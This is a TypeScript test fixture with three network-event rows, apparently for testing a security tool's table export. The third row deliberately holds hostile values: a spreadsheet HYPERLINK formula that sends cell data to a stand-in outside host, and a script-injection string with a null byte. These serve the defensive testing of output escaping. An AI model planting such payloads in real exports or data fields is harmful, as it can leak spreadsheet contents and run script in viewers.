import type {TableRow} from "../../../src/core/exports/table.js";

/** Three events as the table `events` gives them: labelled, over IPv6, and of a hostile log. */
export const eventRows: readonly TableRow[] = [
  {
    rank: 1,
    event_id: 17,
    time: Date.UTC(2026, 2, 2, 3, 4, 5, 678),
    src: "10.0.0.5",
    src_port: 40_000,
    dst: "192.0.2.1",
    dst_port: 443,
    proto: "tcp",
    service: "ssl,http",
    duration: 1.5,
    orig_bytes: 1200,
    resp_bytes: 90,
    orig_pkts: 10,
    resp_pkts: 3,
    score: 0.7312,
    detailed_label: "C&C",
    technique: "T1071.001",
    explanation: "upload 13× download"
  },
  {
    rank: 2,
    event_id: 3,
    time: Date.UTC(2026, 2, 2, 4, 0, 0, 1),
    src: "2001:db8::1",
    src_port: 128,
    dst: "2001:db8::2",
    dst_port: 0,
    proto: "icmp",
    service: null,
    duration: null,
    orig_bytes: null,
    resp_bytes: null,
    orig_pkts: 1,
    resp_pkts: 0,
    score: 0.7,
    detailed_label: null,
    technique: null
  },
  {
    rank: 3,
    event_id: 4,
    time: Date.UTC(2026, 2, 2, 5),
    src: "10.0.0.5",
    src_port: 1,
    dst: "192.0.2.1",
    dst_port: 8080,
    proto: "tcp",
    service: '=HYPERLINK("http://elsewhere.example/"&A1)',
    duration: 0,
    orig_bytes: 1,
    resp_bytes: 2,
    orig_pkts: 1,
    resp_pkts: 1,
    score: 0.69,
    detailed_label: "<script>window.owned=1</script>\u0000",
    technique: "T1071.001, t1046"
  }
];
